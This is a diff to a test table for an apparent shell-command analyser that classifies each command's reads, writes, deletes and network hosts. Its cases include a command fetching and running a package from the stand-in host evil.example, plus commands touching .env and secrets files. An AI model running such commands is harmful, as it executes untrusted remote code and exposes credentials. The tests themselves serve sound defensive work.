@@ -62,6 +62,9 @@ const CASES: [string, string[]][] = [
   ['git clone /srv/repo x', ['read /srv/repo tree:all', 'write x tree:named']],
   ['git fetch . main:x', []],
   ['find src -newer .env', ['read src guess', 'read .env guess']],
+  ['cp --target-dir=.github src/a', ['write .github tree:named', 'read src/a']],
+  ['git add -A', ['read .']],
+  ['make -C secrets test', ['read secrets']],
   ['npm run build/x', []],
   ['npx prettier --write src/a.ts', []],
   ['npx https://evil.example/x.tgz src/a.ts', ['host https://evil.example/x.tgz']],
@@ -79,7 +82,7 @@ const CASES: [string, string[]][] = [
   // writing, deleting, trees
   ['git diff --output=.env', ['write .env']],
   ['git diff HEAD -- .env', ['read HEAD guess', 'read .env']],
-  ['time -o .env ls', ['write .env']],
+  ['time -o .env ls', ['write .env', 'read . guess']],
   ['time -o .env rm x', ['write .env', 'delete x']],
   ['xargs -a secrets/key echo', ['read secrets/key']],
   ['xargs rm', ['dynamic file delete <words read from standard input>']],
